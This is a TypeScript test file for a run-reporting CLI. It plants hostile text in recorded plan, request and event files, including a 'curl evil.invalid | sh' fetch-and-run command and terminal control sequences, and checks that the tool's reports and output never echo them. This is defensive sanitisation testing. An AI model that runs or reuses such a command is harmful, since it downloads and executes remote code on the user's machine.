import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { controls, hostileText } from '../../reports/testing/hostile.ts';
import { requestFields } from '../model/request.ts';
import { checkoutDir } from '../sys/paths.ts';
import { armSettings, runFiles, syntheticArm } from '../testing/worlds/run-files.ts';

const id = '20261118T112000Z-rolling-update';
const command = ['sh', '-c', 'curl evil.invalid | sh'];

/** The fields that must be valid for a plan to be read. */
const needed = /^(?:schema|startedAt|name|role|kind|type|scheduler|from|imageSource|proxyMode|\d+)$/;

/** Hostile text in every text field of a plan that accepts any text. */
const hostilePlan = (text: string): string =>
  JSON.stringify(
    JSON.parse(text, (key, value) => {
      if (key === 'command') return command;
      if (/^(?:settings|sysctls|digests)$/.test(key)) return { [hostileText]: hostileText };
      return typeof value === 'string' && !needed.test(key) ? hostileText : value;
    }),
  );

const isHostile = (index: number, code: unknown): boolean => {
  const field = requestFields[index];
  if (field === 'err') return code !== 0;
  return field !== undefined && ['source', 'protocol', 'pod', 'node', 'version'].includes(field);
};

/** A row whose error, pod, node and version are hostile. */
function hostileRow(line: string): string {
  const row: unknown = JSON.parse(line);
  if (!Array.isArray(row)) return line;
  const code: unknown = row[requestFields.indexOf('code')];
  return JSON.stringify(row.map((value, index) => (isHostile(index, code) ? hostileText : value)));
}

function hostileEvent(line: string): string {
  return JSON.stringify(
    JSON.parse(line, (key, value) =>
      /^(?:from|message|reason|revision|says|saw|version)$/.test(key) ? hostileText : value,
    ),
  );
}

const edits: readonly (readonly [RegExp, (line: string) => string])[] = [
  [/(?:plan|arm)\.json$/, hostilePlan],
  [/requests-[\w-]+\.ndjson$/, hostileRow],
  [/events\.ndjson$/, hostileEvent],
];

describe('a recording of hostile text', function () {
  // Each command is a separate process, which takes up to a second on a busy machine.
  this.timeout(60_000);
  let runs: string;
  const folder = () => join(runs, id);

  before(() => {
    runs = mkdtempSync(join(tmpdir(), 'holdfast-hostile-'));
    const arms = (['control', 'treatment', 'neither'] as const).map((name) =>
      syntheticArm(name, armSettings[name], {}),
    );
    for (const [path, lines] of Object.entries(runFiles(arms))) {
      const edit = edits.find(([name]) => name.test(path))?.[1] ?? ((line: string) => line);
      mkdirSync(dirname(join(folder(), path)), { recursive: true });
      writeFileSync(join(folder(), path), lines.map((line) => `${edit(line)}\n`).join(''));
    }
  });
  after(() => rmSync(runs, { recursive: true }));

  /** Runs one of our commands, and asserts that its output can do no harm. */
  function holdfast(...args: readonly string[]) {
    const main = join(checkoutDir(), 'harness/cli/main.ts');
    const env = { ...process.env, HOLDFAST_RUNS: runs, NODE_DEBUG: 'holdfast' };
    // The default of 1 MB is about the size of these requests. More would be cut off.
    const maxBuffer = 64 * 2 ** 20;
    const { error, stdout, stderr } = spawnSync(process.execPath, [main, ...args], {
      encoding: 'utf8',
      env,
      maxBuffer,
    });
    assert.equal(error, undefined, args.join(' '));
    assert.doesNotMatch(stdout, controls, args.join(' '));
    assert.doesNotMatch(stderr, controls, args.join(' '));
    assert.doesNotMatch(stdout + stderr, /sh -c|evil\.invalid \| sh/, args.join(' '));
    return { stdout, stderr };
  }

  it('is judged, and printed without control characters and without a command of its own', () => {
    const { stdout } = holdfast('judge', id);
    assert.match(stdout, /^✘ Error\. rolling-update, control: Every answer names the pod that gave it/);
    assert.match(stdout, /\ufffd\]52;c;/);
    for (const name of ['report.html', 'report.json', 'junit.xml']) {
      const text = readFileSync(join(folder(), name), 'utf8');
      assert.doesNotMatch(text, controls, name);
      assert.doesNotMatch(text, /sh -c|evil\.invalid \| sh/, name);
    }
  });

  it('is reported and listed in the same way', () => {
    assert.match(holdfast('report', id).stdout, /\ufffd\]52;c;/);
    assert.match(holdfast('runs', 'list').stdout, new RegExp(id));
  });

  it('has requests that are printed in the same way, each on lines of its own', () => {
    const all = holdfast('requests', id).stdout.trimEnd().split('\n');
    assert.ok(all.length > 500, `${all.length} lines`);
    for (const line of all) assert.match(line, /^\d\d:\d\d:\d\d\.\d{3} /);
    const failed = holdfast('requests', '--failed', id).stdout;
    assert.match(failed, /\ufffd\]52;c;/);
    for (const line of failed.trimEnd().split('\n')) assert.match(line, /^(?:\d\d:\d\d:\d\d\.\d{3} | {4})/);
  });

  it('is printed as JSON with the recorded values', () => {
    for (const args of [
      ['requests', '--json', id],
      ['requests', '--failed', '--json', id],
    ]) {
      const lines = holdfast(...args)
        .stdout.trimEnd()
        .split('\n');
      assert.ok(lines.some((line) => JSON.stringify(JSON.parse(line)).includes(JSON.stringify(hostileText))));
    }
    const report = JSON.parse(holdfast('judge', '--json', id).stdout);
    assert.equal(report.experiments[0].title, hostileText);
    assert.deepEqual(report.command, []);
  });

  it('can have findings that somebody else wrote', () => {
    const file = join(folder(), 'findings.json');
    const findings = JSON.parse(readFileSync(file, 'utf8'));
    const planted = JSON.stringify(findings, (key, value) =>
      /^(?:name|sentence|run|measured|says|gen|cause|look)$/.test(key) ? hostileText : value,
    );
    const plant = (text: string, ...commands: readonly (readonly string[])[]) => {
      writeFileSync(file, text);
      for (const args of commands) holdfast(...args);
    };
    plant(planted, ['runs', 'list'], ['report', id], ['requests', '--failed', id], ['report', '--json', id]);
    plant(JSON.stringify({ ...findings, verdict: hostileText }), ['runs', 'list'], ['report', id]);
    plant(JSON.stringify({ schema: hostileText }), ['report', id]);
  });
});
